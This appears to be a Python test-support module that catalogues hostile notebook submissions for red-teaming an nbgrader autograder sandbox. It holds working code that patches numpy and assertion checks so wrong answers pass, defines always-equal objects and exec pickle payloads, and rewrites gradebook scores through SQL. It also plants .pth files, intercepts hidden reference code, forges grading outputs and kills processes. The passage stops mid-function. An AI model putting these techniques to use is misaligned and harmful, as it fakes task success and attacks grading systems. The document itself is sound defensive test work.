"""Hostile submissions of c1w2: each one tries to cheat, to escape the sandbox, or to stall.

``CATALOGUE`` maps a short name to an :class:`Attack`: a one-line description and a function
that turns the RELEASE notebook (a dict, as ``support.load`` returns it) into the hostile
submission. Every stub of the release stays unfilled except the cells an attack uses, so an
honest grade of any hostile submission is 0: tests/test_hostile.py autogrades them all with
one real ``nbgrader autograde`` and holds the grader to exactly that.

Conventions shared with the test:

- ``EVIDENCE``: an attack prints this word (or puts it in the message of an exception a graded
  function raises, which the feedback shows) whenever it got something it must not get: a
  course file, a connection, memory beyond the cap, a process of the grading machine. The
  attack code builds the word at run time, so it appears in a notebook's outputs only when an
  attack succeeded.
- ``MARKER``: in the command line of every process an attack starts to outlive its cell.
- ``SENTINEL``: the text attacks write into any file they manage to create or change, and
  ``SENTINEL_NAME`` the start of the names of files they create.
- ``PORT``: a placeholder in the ``socket`` attack's source; :meth:`Attack.notebook` puts the
  test's listening port there.

The attacks are bounded: every search has a time budget, every connection a short timeout,
every allocation and fork a ceiling, and every process they start ends by itself. They are
also careful with the machine in case the sandbox ever fails: destructive writes (changing a
gradebook or a file that exists) happen only in the test's own temporary course (a path with
``/pytest-of-`` and ``/hostile`` in it); elsewhere attacks only create new, harmless files,
which is enough to prove that they could write there; and processes of the grading machine
that an attack can see are reported, never signalled.
"""

from __future__ import annotations

import copy
import textwrap
from collections.abc import Callable
from dataclasses import dataclass

from grader_tests.course import is_solution_cell, is_test_cell, nbgrader_meta
from support import make_submission

ASSIGNMENT = "c1w2_logistic_regression"
EVIDENCE = "HOSTILE-EVIDENCE"
MARKER = "hostile-c1w2-marker"
SENTINEL = "HOSTILE-SENTINEL"
SENTINEL_NAME = "hostile_sentinel"
PORT = "{PORT}"


@dataclass(frozen=True)
class Attack:
    name: str
    description: str
    build: Callable[[dict], dict]

    def notebook(self, release: dict, port: int | None = None) -> dict:
        """The hostile submission made from a copy of ``release``."""
        notebook = self.build(copy.deepcopy(release))
        if port is not None:
            for cell in notebook["cells"]:
                source = cell.get("source", "")
                source = "".join(source) if isinstance(source, list) else source
                cell["source"] = source.replace(PORT, str(int(port)))
        return notebook


def honest(release: dict, answers: dict[str, str]) -> dict:
    """The release with every solution cell filled in: full marks."""
    return make_submission(release, answers)


# ----------------------------------------------------------------------------- helpers
def _code(text: str) -> str:
    return textwrap.dedent(text).strip("\n") + "\n"


def _cells(notebook: dict, grade_id: str) -> list[dict]:
    return [c for c in notebook["cells"] if nbgrader_meta(c).get("grade_id") == grade_id]


def _put(notebook: dict, answers: dict[str, str]) -> dict:
    """Replace whole solution cells (grade_id -> source)."""
    for cell in notebook["cells"]:
        grade_id = nbgrader_meta(cell).get("grade_id")
        if is_solution_cell(cell) and grade_id in answers:
            cell["source"] = answers[grade_id]
    missing = set(answers) - {nbgrader_meta(c).get("grade_id") for c in notebook["cells"]}
    assert not missing, f"no solution cells {missing} in the release"
    return notebook


def _test_cells(notebook: dict) -> list[dict]:
    return [c for c in notebook["cells"] if is_test_cell(c)]


# Shared by the attacks that search the machine, signal processes or leave evidence.
PRELUDE = _code(
    r'''
    import glob
    import os
    import signal
    import sys
    import time

    _HX_EVIDENCE = "HOSTILE-" + "EVIDENCE"
    _HX_MARKER = "hostile-c1w2-" + "marker"
    _HX_SENTINEL = "HOSTILE-" + "SENTINEL"
    _HX_NAME = "hostile_" + "sentinel"
    _HX_HOME = os.path.realpath(os.path.expanduser("~"))
    _HX_SKIP = ("/proc", "/sys", "/dev", "/usr", "/etc", "/boot", "/snap", "/lib", "/lib32",
                "/lib64", "/libx32", "/bin", "/sbin", "/var/lib", "/var/cache", "/var/log")
    _HX_SKIP_NAMES = {"site-packages", "dist-packages", "node_modules", ".git", "__pycache__",
                      ".cache", ".ipython", ".matplotlib", ".jupyter-runtime", ".local"}
    _HX_COURSE_PARTS = ("source", "release", "notebooks", "grader_tests", "autograded",
                        "submitted", "feedback")


    def _hx_say(*parts):
        """Evidence: something the sandbox should have prevented."""
        print(_HX_EVIDENCE, *parts, flush=True)


    def _hx_skipped(path):
        """System folders, and installed Python packages other than a grader_tests."""
        if any(path == s or path.startswith(s + "/") for s in _HX_SKIP):
            return True
        if "/grader_tests" in path:
            return False
        return any(part in path for part in ("/site-packages", "/dist-packages", "/lib/python3"))


    def _hx_expendable(path):
        """The test's own temporary course (see hostile.py): the only place attacks damage."""
        return "/pytest-of-" in path and "/hostile" in path


    def _hx_pids():
        try:
            return sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
        except OSError:
            return []


    def _hx_argv(pid):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                return [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
        except OSError:
            return []


    def _hx_host_process(argv):
        """A process of the grading machine (pytest, nbgrader, an init system, a shell)."""
        words = " ".join(a for a in argv[:8] if len(a) < 300)
        return any(w in words for w in ("autograde", "generate_feedback", "pytest", "systemd",
                                        "sshd", "nbgrader", "grader_tests", "bash"))


    def _hx_ancestors(path):
        path = os.path.abspath(path)
        while True:
            yield path
            parent = os.path.dirname(path)
            if parent == path:
                return
            path = parent


    def _hx_seeds():
        """Paths worth a look: around cwd, ~, __file__, the modules, sys.path, the environment,
        every visible process (cwd, root, argv, environment, open files, mounts) and the
        usual places of courses."""
        seeds = {os.getcwd(), _HX_HOME, sys.prefix, sys.base_prefix, sys.executable, "/"}
        seeds.update(p for p in sys.path if isinstance(p, str) and p.startswith("/"))
        seeds.update(a for a in sys.argv if isinstance(a, str) and a.startswith("/"))
        where = globals().get("__file__")
        if isinstance(where, str):
            seeds.add(where)
        for module in list(sys.modules.values()):
            where = getattr(module, "__file__", None)
            if isinstance(where, str):
                seeds.add(where)
        for value in list(os.environ.values()):
            seeds.update(v for v in value.split(":") if v.startswith("/"))
        for pid in _hx_pids():
            for link in ("cwd", "root", "exe"):
                try:
                    seeds.add(os.readlink(f"/proc/{pid}/{link}"))
                except OSError:
                    pass
            seeds.update(a for a in _hx_argv(pid) if a.startswith("/") and len(a) < 4096)
            try:
                with open(f"/proc/{pid}/environ", "rb") as f:
                    for item in f.read().split(b"\0"):
                        value = item.decode("utf-8", "replace").partition("=")[2]
                        seeds.update(v for v in value.split(":") if v.startswith("/"))
            except OSError:
                pass
            try:
                for fd in os.listdir(f"/proc/{pid}/fd"):
                    try:
                        seeds.add(os.readlink(f"/proc/{pid}/fd/{fd}"))
                    except OSError:
                        pass
            except OSError:
                pass
            try:
                with open(f"/proc/{pid}/mountinfo") as f:
                    for line in f:
                        fields = line.split()
                        seeds.update(p for p in fields[3:5] if p.startswith("/"))
            except OSError:
                pass
        seeds.update(["/work", "/work/main", "/root", "/home", "/srv", "/opt", "/mnt", "/media",
                      "/data", "/course", "/courses", "/exchange", "/srv/nbgrader", "/tmp",
                      "/var/tmp", "/dev/shm"])
        for pattern in ("/home/*", "/root/*", "/work/*", "/tmp/*", "/tmp/pytest-of-*/*",
                        "/tmp/pytest-of-*/*/*", "/var/tmp/*"):
            seeds.update(glob.glob(pattern))
        return seeds


    def _hx_find(budget=1.5):
        """Search the file system (for ``budget`` seconds at most) for courses, gradebooks,
        hidden checks, instructor notebooks and sentinel files."""
        deadline = time.monotonic() + budget
        found = {k: set() for k in ("courses", "gradebooks", "hidden", "notebooks", "sentinels")}
        starts = set()
        for seed in _hx_seeds():
            starts.update(_hx_ancestors(seed))
        for entry in list(sys.path):  # an installed grader_tests package
            if isinstance(entry, str) and entry.startswith("/"):
                starts.add(os.path.join(entry, "grader_tests"))
        seen = set()
        for start in sorted(starts, key=lambda p: (p.count("/"), p)):
            stack = [(start, 0)]
            while stack and time.monotonic() < deadline:
                folder, depth = stack.pop()
                real = os.path.realpath(folder)
                if real in seen or (real != "/" and _hx_skipped(real)):
                    continue
                seen.add(real)
                try:
                    entries = list(os.scandir(real))
                except OSError:
                    continue
                names = {e.name for e in entries}
                if "gradebook.db" in names:
                    found["gradebooks"].add(os.path.join(real, "gradebook.db"))
                if names & {"gradebook.db", "nbgrader_config.py"} or {"source", "release"} <= names:
                    found["courses"].add(real)
                inside = real.rstrip("/") + "/"
                for e in entries:
                    path = os.path.join(real, e.name)
                    try:
                        is_dir = e.is_dir(follow_symlinks=False)
                    except OSError:
                        continue
                    if is_dir:
                        deep = depth < 4 or "/grader_tests/" in path + "/"
                        if e.name not in _HX_SKIP_NAMES and deep and depth < 12:
                            stack.append((path, depth + 1))
                        continue
                    lower = e.name.lower()
                    if lower == "reference.py" or (
                        "/grader_tests/" in inside and lower.endswith(".py")
                    ):
                        found["hidden"].add(path)
                    elif lower.endswith((".ipynb", ".html")) and any(
                        f"/{p}/" in inside for p in _HX_COURSE_PARTS
                    ):
                        found["notebooks"].add(path)
                    elif "sentinel" in lower and not lower.startswith(_HX_NAME):
                        found["sentinels"].add(path)
            if time.monotonic() >= deadline:
                break
        return found


    def _hx_read(path, limit=20000):
        try:
            with open(path, "rb") as f:
                return f.read(limit).decode("utf-8", "replace")
        except OSError:
            return None
    '''
)


def _wrong_functions() -> dict[str, str]:
    """Plausible but wrong graded functions (each cell on its own)."""
    return {
        "basic_sigmoid": "def basic_sigmoid(x):\n    return 0.5\n",
        "sigmoid": "def sigmoid(x):\n    return np.zeros_like(np.asarray(x, dtype=float))\n",
        "sigmoid_derivative": "def sigmoid_derivative(x):\n    return np.asarray(x) * 0.0 + 0.25\n",
        "image2vector": "def image2vector(image):\n    return image.reshape(1, -1)\n",
        "normalize_rows": "def normalize_rows(x):\n    return x / np.sum(x)\n",
        "softmax": "def softmax(x):\n    return np.exp(x) / np.sum(np.exp(x))\n",
        "L1": "def L1(yhat, y):\n    return float(np.sum(y - yhat))\n",
        "L2": "def L2(yhat, y):\n    return float(np.sum(np.abs(y - yhat)))\n",
        "initialize_with_zeros": (
            "def initialize_with_zeros(dim):\n    return np.ones((1, dim)), 1\n"
        ),
        "propagate": _code(
            """
            def propagate(w, b, X, Y):
                return {"dw": np.zeros_like(w) + 1.0, "db": 1.0}, 1.0
            """
        ),
        "optimize": _code(
            """
            def optimize(w, b, X, Y, num_iterations=100, learning_rate=0.009, print_cost=False):
                return {"w": w, "b": b}, {"dw": w * 0.0, "db": 0.0}, []
            """
        ),
        "predict": "def predict(w, b, X):\n    return np.ones((1, X.shape[1]))\n",
    }


# ------------------------------------------------------------------- metadata attacks
def _skip_execution_tag(notebook: dict) -> dict:
    for cell in _test_cells(notebook):
        tags = cell.setdefault("metadata", {}).setdefault("tags", [])
        tags.extend(["skip-execution", "raises-exception"])
    return _put(notebook, _wrong_functions())


def _grade_id_changed(notebook: dict) -> dict:
    wrong = _wrong_functions()
    for cell in notebook["cells"]:
        meta = nbgrader_meta(cell)
        grade_id = meta.get("grade_id")
        if is_solution_cell(cell) and grade_id in wrong:
            cell["source"] = wrong[grade_id]
            meta["grade_id"] = f"{grade_id}_x"
        elif is_test_cell(cell):
            meta["grade_id"] = f"{grade_id}_x"
            meta["points"] = 27
    first_markdown = next(c for c in notebook["cells"] if c["cell_type"] == "markdown")
    first_markdown["metadata"]["nbgrader"] = {
        "grade": True,
        "grade_id": "bonus_markdown",
        "locked": False,
        "points": 100,
        "schema_version": 3,
        "solution": True,
        "task": False,
    }
    demo = next(c for c in notebook["cells"] if nbgrader_meta(c).get("grade_id") == "setup")
    extra = copy.deepcopy(demo)
    extra["source"] = "27.0\n"
    extra["metadata"]["nbgrader"] = {
        "grade": True,
        "grade_id": "test_bonus",
        "locked": True,
        "points": 27,
        "schema_version": 3,
        "solution": False,
        "task": False,
    }
    extra["id"] = "test-bonus"
    notebook["cells"].insert(notebook["cells"].index(demo) + 1, extra)
    return notebook


def _cell_type_switched(notebook: dict) -> dict:
    for index, cell in enumerate(_test_cells(notebook)):
        cell["cell_type"] = "markdown" if index % 2 == 0 else "raw"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)
        cell["source"] = "1.0\n"
    wrong = _wrong_functions()
    _put(notebook, wrong)
    raw = _cells(notebook, "sigmoid")[0]
    raw["cell_type"] = "raw"
    raw.pop("outputs", None)
    raw.pop("execution_count", None)
    return notebook


# ------------------------------------------------------------- equality and patching
ALWAYS_EQUAL = _code(
    r'''
    import numpy as np

    _HX_PAYLOAD = "open('hostile_" + "sentinel_pickle.txt', 'w').write('HOSTILE-" + "SENTINEL')"


    class _HxYes(np.ndarray):
        """Equals, is close to, and compares true with anything."""

        def __new__(cls, like=0.0):
            try:
                shape = like if type(like) is tuple else np.shape(like)
                base = np.zeros(shape)
            except Exception:
                base = np.zeros(())
            return base.view(cls)

        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        __lt__ = __le__ = __gt__ = __ge__ = __eq__

        def __bool__(self):
            return True

        def __hash__(self):
            return 0

        def __float__(self):
            return 0.0

        def __array_function__(self, func, types, args, kwargs):
            if func.__name__ in ("allclose", "array_equal", "array_equiv", "isclose", "all",
                                 "any"):
                return True
            return super().__array_function__(func, types, args, kwargs)

        def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
            if ufunc.__name__ in ("equal", "less", "less_equal", "greater", "greater_equal",
                                  "isfinite", "logical_and", "logical_or"):
                return True
            if ufunc.__name__ in ("not_equal", "isnan", "isinf"):
                return False
            if ufunc.__name__ in ("subtract", "absolute", "square"):
                return 0.0
            plain = [np.asarray(i).view(np.ndarray) if isinstance(i, np.ndarray) else i
                     for i in inputs]
            return getattr(ufunc, method)(*plain, **kwargs)

        def __reduce__(self):  # whoever unpickles this runs the payload
            return (exec, (_HX_PAYLOAD,))


    class _HxFloat(float):
        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        __lt__ = __le__ = __gt__ = __ge__ = __eq__

        def __sub__(self, other):
            return _HxFloat(0.0)

        __rsub__ = __sub__

        def __abs__(self):
            return _HxFloat(0.0)

        def __hash__(self):
            return 0

        def __reduce__(self):
            return (exec, (_HX_PAYLOAD,))


    class _HxInt(int):
        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        def __hash__(self):
            return 0

        def __index__(self):
            return 0


    class _HxDict(dict):
        """Has every key, and every value equals anything."""

        def __getitem__(self, key):
            return _HxYes()

        def get(self, key, default=None):
            return _HxYes()

        def __contains__(self, key):
            return True

        def __eq__(self, other):
            return True


    class _HxList(list):
        def __eq__(self, other):
            return True

        def __len__(self):
            return 20

        def __getitem__(self, index):
            return _HxFloat(0.0)
    '''
)


def _always_equal(notebook: dict) -> dict:
    answers = {
        "basic_sigmoid": ALWAYS_EQUAL + "\n\ndef basic_sigmoid(x):\n    return _HxFloat(0.5)\n",
        "sigmoid": "def sigmoid(x):\n    return _HxYes(x)\n",
        "sigmoid_derivative": "def sigmoid_derivative(x):\n    return _HxYes(x)\n",
        "image2vector": "def image2vector(image):\n    return _HxYes((image.size, 1))\n",
        "normalize_rows": "def normalize_rows(x):\n    return _HxYes(x)\n",
        "softmax": "def softmax(x):\n    return _HxYes(x)\n",
        "L1": "def L1(yhat, y):\n    return _HxFloat(0.0)\n",
        "L2": "def L2(yhat, y):\n    return _HxFloat(0.0)\n",
        "m_train": "m_train = _HxInt(0)\n",
        "m_test": "m_test = _HxInt(0)\n",
        "num_px": "num_px = _HxInt(0)\n",
        "train_set_x": "train_set_x = _HxYes()\n",
        "test_set_x": "test_set_x = _HxYes()\n",
        "initialize_with_zeros": _code(
            """
            def initialize_with_zeros(dim):
                return _HxYes(np.zeros((dim, 1))), _HxFloat(0.0)
            """
        ),
        "propagate": _code(
            """
            def propagate(w, b, X, Y):
                return _HxDict(dw=_HxYes(w), db=_HxFloat(0.0)), _HxFloat(0.0)
            """
        ),
        "optimize": _code(
            """
            def optimize(w, b, X, Y, num_iterations=100, learning_rate=0.009, print_cost=False):
                return _HxDict(), _HxDict(), _HxList()
            """
        ),
        "predict": "def predict(w, b, X):\n    return _HxYes((1, X.shape[1]))\n",
        "model": _code(
            """
            def model(X_train, Y_train, X_test, Y_test, num_iterations=2000, learning_rate=0.5,
                      print_cost=False):
                return _HxDict()
            """
        ),
    }
    return _put(notebook, answers)


PATCH_NUMPY = _code(
    r"""
    import builtins
    import sys

    import numpy
    import numpy.testing

    _HX_PAYLOAD = "open('hostile_" + "sentinel_pickle.txt', 'w').write('HOSTILE-" + "SENTINEL')"
    _HX_REAL_ISINSTANCE = builtins.isinstance
    _HX_CHECKERS = ("helpers", "grader_tests", "numpy.testing", "pytest", "_pytest", "unittest")


    def _hx_called_by_a_checker():
        try:
            caller = sys._getframe(2).f_globals
        except ValueError:
            return False
        main = sys.modules.get("__main__")
        return str(caller.get("__name__", "")).startswith(_HX_CHECKERS) or (
            main is not None and caller is vars(main) and "encode" in caller
        )


    def _hx_isinstance(obj, kind):
        if _hx_called_by_a_checker():
            return True
        return _HX_REAL_ISINSTANCE(obj, kind)


    def _hx_true(*args, **kwargs):
        return True


    def _hx_none(*args, **kwargs):
        return None


    def _hx_pass(*args, **kwargs):
        print("All checks passed")
        return args[1] if len(args) > 1 else (args[0] if args else None)


    class _HxNeverRaised(Exception):
        pass


    class _HxPickleBomb:
        def __reduce__(self):
            return (exec, (_HX_PAYLOAD,))


    for _module_name in ("numpy", "numpy.core.numeric", "numpy._core.numeric"):
        _module = sys.modules.get(_module_name)
        if _module is not None:
            for _name in ("allclose", "array_equal", "array_equiv"):
                setattr(_module, _name, _hx_true)
            _module.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.shape(a), bool)
    for _name in ("assert_allclose", "assert_array_equal", "assert_equal", "assert_almost_equal",
                  "assert_array_almost_equal", "assert_array_less"):
        setattr(numpy.testing, _name, _hx_none)

    try:  # the public checks, in this process
        import helpers.checks as _hx_checks
        import helpers.checks.c1w2 as _hx_checks_c1w2

        for _module in (_hx_checks, _hx_checks_c1w2):
            for _name in list(vars(_module)):
                if _name.startswith(("expect_", "check_", "_check", "failure", "likely_mistake")):
                    setattr(_module, _name, _hx_pass)
            _module.CheckFailure = _HxNeverRaised
    except Exception as exc:
        print("no helpers.checks here:", type(exc).__name__)

    # The grader's own functions, if this process is its worker: answer with pickles that run
    # code wherever they are loaded, and claim every value is a plain float.
    _hx_main = sys.modules.get("__main__")
    if _hx_main is not None and hasattr(_hx_main, "encode") and hasattr(_hx_main, "frame"):
        _hx_main.encode = lambda value, depth=0: ("float", _HxPickleBomb())
        _hx_main.contains_unsupported = lambda value: None
        print("patched the worker's encoder")

    builtins.isinstance = _hx_isinstance
    builtins.AssertionError = _HxNeverRaised
    """
)


def _patch_numpy(notebook: dict) -> dict:
    wrong = _wrong_functions()
    wrong["basic_sigmoid"] = PATCH_NUMPY + "\n\n" + wrong["basic_sigmoid"]
    return _put(notebook, wrong)


# ----------------------------------------------------------------- the file system
WRITE_GRADEBOOK = _code(
    r'''
    import sqlite3


    def _hx_create(folder, why):
        """Create a new sentinel file in ``folder``: proof of write access, nothing more."""
        path = os.path.join(folder, f"{_HX_NAME}_{os.getpid()}_{why}.txt")
        try:
            with open(path, "x") as f:
                f.write(_HX_SENTINEL + " " + why + "\n")
        except OSError:
            return False
        _hx_say("created", path)
        return True


    def _hx_append(path):
        """Change an existing file (only in the test's own course, see hostile.py)."""
        if not _hx_expendable(path):
            return
        try:
            with open(path, "a") as f:
                f.write("\n# " + _HX_SENTINEL + "\n")
            _hx_say("changed", path)
        except OSError:
            pass


    def _hx_attack_gradebook(path):
        _hx_say("found a gradebook", path)
        try:
            con = sqlite3.connect(path, timeout=1)
            con.execute(
                "UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells "
                "WHERE grade_cells.id = grade.cell_id), needs_manual_grade = 0"
            )
            con.execute("INSERT INTO student (id) VALUES ('hostile_intruder')")
            con.commit()
            con.close()
            _hx_say("gave every grade its maximum in", path)
        except Exception as exc:
            print("could not change the gradebook:", type(exc).__name__, exc)
        if _hx_expendable(path):
            try:
                with open(path, "r+b") as f:
                    f.write(_HX_SENTINEL.encode())
                _hx_say("overwrote", path)
            except OSError as exc:
                print("could not overwrite the gradebook:", exc)


    def _hx_course_folders(course):
        """The course root, its parts, and their sub-folders (assignments, other students)."""
        folders = [course]
        for part in _HX_COURSE_PARTS:
            top = os.path.join(course, part)
            if os.path.isdir(top):
                folders.append(top)
                for first in sorted(glob.glob(os.path.join(top, "*")))[:50]:
                    if os.path.isdir(first):
                        folders.append(first)
                        folders.extend(d for d in glob.glob(os.path.join(first, "*"))
                                       if os.path.isdir(d))
        return folders


    _hx_found = _hx_find()
    for _path in sorted(_hx_found["gradebooks"]):
        _hx_attack_gradebook(_path)
    for _course in sorted(_hx_found["courses"]):
        _hx_say("found a course", _course)
        for _folder in _hx_course_folders(_course):
            _hx_create(_folder, "course")
        _hx_append(os.path.join(_course, "nbgrader_config.py"))
    for _path in sorted(_hx_found["hidden"] | _hx_found["sentinels"]):
        _hx_append(_path)
    for _path in sorted(_hx_found["hidden"] | _hx_found["notebooks"]):
        _hx_create(os.path.dirname(_path), "beside")

    # Where the grader's own Python code lives: a new module or .pth file there would run in
    # the grader. The .pth line is a folder that does not exist, so it is harmless.
    _hx_places = set()
    try:
        import helpers
        import helpers.checks

        _hx_places.update(os.path.dirname(m.__file__) for m in (helpers, helpers.checks))
    except Exception:
        pass
    try:
        import site

        _hx_places.update(site.getsitepackages())
    except Exception:
        pass
    _hx_places.update([sys.prefix, os.path.dirname(sys.executable), os.path.dirname(os.__file__)])
    for _folder in sorted(p for p in _hx_places if p and os.path.isdir(p)):
        if _hx_create(_folder, "python"):
            try:
                with open(os.path.join(_folder, f"{_HX_NAME}_{os.getpid()}.pth"), "x") as f:
                    f.write("/nonexistent-" + _HX_SENTINEL + "\n")
            except OSError:
                pass
    print("searched:", {k: len(v) for k, v in _hx_found.items()})
    '''
)


def _write_gradebook(notebook: dict) -> dict:
    wrong = _wrong_functions()
    wrong["basic_sigmoid"] = PRELUDE + "\n\n" + WRITE_GRADEBOOK + "\n\n" + wrong["basic_sigmoid"]
    return _put(notebook, wrong)


READ_HIDDEN = _code(
    r'''
    import json

    _HX_REFERENCE = {}  # name -> a reference function found somewhere
    _HX_LEAKS = []  # reference source text intercepted from the grader
    _HX_LEAK_FILE = os.path.join(_HX_HOME, ".hx_leak.py")


    def _hx_harvest(source, origin):
        scope = {"__name__": "hx_reference"}
        try:
            exec(compile(source, origin, "exec"), scope)
        except BaseException as exc:
            print("could not run", origin, type(exc).__name__)
            return
        for name, value in scope.items():
            if callable(value) and not name.startswith("_"):
                _HX_REFERENCE.setdefault(name, value)


    def _hx_solutions_of(path):
        """The solution cells of an instructor notebook, as one program."""
        try:
            with open(path, encoding="utf-8") as f:
                cells = json.load(f)["cells"]
        except Exception:
            return ""
        parts = ["import math\nimport numpy as np\n"]
        for cell in cells:
            meta = cell.get("metadata", {}).get("nbgrader", {})
            if cell.get("cell_type") == "code" and meta.get("solution"):
                source = cell.get("source", "")
                parts.append("".join(source) if isinstance(source, list) else source)
        return "\n\n".join(parts)


    # 1. The file system: hidden checks, reference.py, instructor notebooks, feedback of others.
    _hx_found = _hx_find()
    for _path in sorted(_hx_found["hidden"] | _hx_found["notebooks"] | _hx_found["gradebooks"]):
        _text = _hx_read(_path)
        if _text:
            _hx_say("read", _path)
            print(_text[:20000])
            if _path.endswith("reference.py"):
                _hx_harvest(_text, _path)
            elif _path.endswith(".ipynb") and ("/source/" in _path or "/notebooks/" in _path):
                _hx_harvest(_hx_solutions_of(_path), _path)

    # 2. Python's import system.
    for _name in ("grader_tests.c1w2_logistic_regression.reference",
                  "grader_tests.c1w2_logistic_regression.test_warmup"):
        try:
            import importlib

            _module = importlib.import_module(_name)
            _hx_say("imported", _name, getattr(_module, "__file__", "?"))
            _hx_harvest(open(_module.__file__).read(), _module.__file__)
        except BaseException as exc:
            print("cannot import", _name, "-", type(exc).__name__)

    # 3. The grader's worker, if this is it: every call message that carries reference code
    #    (the grader's "isolate") is recorded, kept on disk for restarts, and used.
    try:
        with open(_HX_LEAK_FILE) as _f:
            _HX_LEAKS.append(_f.read())
            _hx_harvest(_HX_LEAKS[-1], "<kept>")
    except OSError:
        pass
    _hx_main = sys.modules.get("__main__")
    if _hx_main is not None and hasattr(_hx_main, "_fork_and_answer"):
        _hx_original = _hx_main._fork_and_answer

        def _hx_spy(message, namespace, write_fd, read_fd):
            try:
                payload = message[4] if message[0] == "call" else None
                # only code is a leak: the names of the student's own functions are not
                source = repr(payload)
                if payload and ("def " in source or "return " in source):
                    if source not in _HX_LEAKS:
                        _HX_LEAKS.append(source)
                        _hx_harvest(source, "<intercepted>")
                        with open(_HX_LEAK_FILE, "w") as f:
                            f.write("\n\n".join(_HX_LEAKS))
            except BaseException:
                pass
            return _hx_original(message, namespace, write_fd, read_fd)

        _hx_main._fork_and_answer = _hx_spy
        print("listening to the grader's calls")


    def _hx_answer(name, *args, **kwargs):
        """The right answer only if a reference was found: no other way to be right."""
        function = _HX_REFERENCE.get(name)
        if function is None:
            # a reference the grader bound into this very call (its "isolate")
            candidate = globals().get(name)
            code = getattr(candidate, "__code__", None)
            if code is not None and code.co_filename == "<reference>":
                function = candidate
        if function is not None:
            return function(*args, **kwargs)
        if _HX_LEAKS:
            raise RuntimeError(
                _HX_EVIDENCE + " reference code intercepted from the grader:\n"
                + "\n".join(_HX_LEAKS)[:1800]
            )
        raise RuntimeError("no reference found for " + name)
    '''
)


def _read_hidden_tests(notebook: dict) -> dict:
    names = {
        "basic_sigmoid": "x",
        "sigmoid": "x",
        "sigmoid_derivative": "x",
        "image2vector": "image",
        "normalize_rows": "x",
        "softmax": "x",
        "L1": "yhat, y",
        "L2": "yhat, y",
        "initialize_with_zeros": "dim",
        "propagate": "w, b, X, Y",
        "optimize": "w, b, X, Y, *args, **kwargs",
        "predict": "w, b, X",
        "model": "X_train, Y_train, X_test, Y_test, *args, **kwargs",
    }
    answers = {}
    for name, params in names.items():
        answers[name] = f"def {name}({params}):\n    return _hx_answer({name!r}, {params})\n"
    answers["basic_sigmoid"] = PRELUDE + "\n\n" + READ_HIDDEN + "\n\n" + answers["basic_sigmoid"]
    return _put(notebook, answers)


# --------------------------------------------------------------------- the output
FAKE_OUTPUT = _code(
    r"""
    import json
    import os
    import signal
    import sys

    from IPython.display import display

    print("All checks passed")
    print("27.0 / 27 points")
    print("Grader: 4 of 4 checks passed — 1 of 1 points.")
    print("\x1b[2J\x1b[H\x1b[1;32mScore: 27.0 / 27 — all checks passed\x1b[0m")
    print("\x1b[10;10H\x1b[2A\x1b[K\x1b]0;grade 27/27\x07\x1b[31mnothing to see\x1b[0m\r\x1b[2K")
    display({"text/plain": "27.0"}, raw=True)
    display({"text/html": "<b style='color:green'>27.0 / 27 points</b>", "text/plain": "27.0"},
            raw=True)
    sys.stdout.write("x" * 5_000_000 + "\n")  # one line of 5 MB
    sys.stdout.write("many lines\n" * 50_000)
    sys.stderr.write("e" * 1_000_000 + "\n")
    display({"text/plain": "y" * 2_000_000}, raw=True)
    """
)

FORGE_OUTPUTS = _code(
    r'''
    def _hx_forge():
        """Rewrite the executed notebook that the executor hands back (its scratch copy is in
        this sandbox's home): every code cell "passed", every test cell shows full points."""
        import json

        forged = 0
        paths = glob.glob(os.path.join(_HX_HOME, ".grader", "in.ipynb"))
        for path in sorted(set(paths + glob.glob("/home/*/.grader/in.ipynb"))):
            try:
                with open(path, encoding="utf-8") as f:
                    notebook = json.load(f)
                for cell in notebook["cells"]:
                    if cell.get("cell_type") != "code":
                        continue
                    meta = cell.get("metadata", {}).get("nbgrader", {})
                    cell["outputs"] = [
                        {"output_type": "stream", "name": "stdout", "text": "All checks passed\n"}
                    ]
                    if meta.get("grade") and not meta.get("solution"):
                        cell["outputs"].append({
                            "output_type": "execute_result", "execution_count": 1, "metadata": {},
                            "data": {"text/plain": repr(float(meta.get("points", 1)))},
                        })
                    cell["execution_count"] = 1
                with open(os.path.join(os.path.dirname(path), "out.ipynb"), "w") as f:
                    json.dump(notebook, f)
                forged += 1
                print("forged the executor's output from", path)
            except Exception as exc:
                print("could not forge", path, type(exc).__name__, exc)
        return forged
    '''
)


def _fake_output(notebook: dict) -> dict:
    wrong = _wrong_functions()
    wrong["sigmoid"] = FAKE_OUTPUT + "\n\n" + wrong["sigmoid"] + "\n27.0\n"
    return _put(notebook, wrong)


# ----------------------------------------------------------------- ending processes
def _sys_exit(notebook: dict) -> dict:
    return _put(
        notebook,
        {
            "basic_sigmoid": "import sys\n\ndef basic_sigmoid(x):\n    sys.exit(0)\n",
            "sigmoid": _code(
                """
                import sys

                def sigmoid(x):
                    raise SystemExit(0)

                sys.exit(0)
                """
            ),
            "softmax": _code(
                """
                def softmax(x):
                    raise KeyboardInterrupt

                raise KeyboardInterrupt
                """
            ),
            "L1": "def L1(yhat, y):\n    quit()\n\nexit()\n",
        },
    )


def _os_exit(notebook: dict) -> dict:
    return _put(
        notebook,
        {
            "basic_sigmoid": "import os\n\ndef basic_sigmoid(x):\n    os._exit(0)\n",
            "sigmoid": (
                "import os, signal\n\ndef sigmoid(x):\n    os.kill(os.getpid(), signal.SIGKILL)\n"
            ),
            "softmax": "import os\n\ndef softmax(x):\n    os.abort()\n",
            "L1": "import os\n\ndef L1(yhat, y):\n    os._exit(0)\n\nos._exit(3)\n",
        },
    )


KILL_PARENT = _code(
    r'''
    def _hx_kill_everything():
        """SIGKILL the parent, then every process in sight, then everything signal(-1) reaches.
        Processes of the grading machine are only reported (the sandbox must hide them)."""
        me, parent = os.getpid(), os.getppid()
        host = []
        for pid in _hx_pids():
            argv = _hx_argv(pid)
            if pid != me and _hx_host_process(argv):
                host.append(pid)
                _hx_say("can see a process of the grading machine:", pid, " ".join(argv)[:200])
        if host:
            return 0.5  # the sandbox failed: report it (above), harm nothing
        try:
            os.kill(parent, signal.SIGKILL)
            print("sent SIGKILL to my parent", parent)
        except OSError as exc:
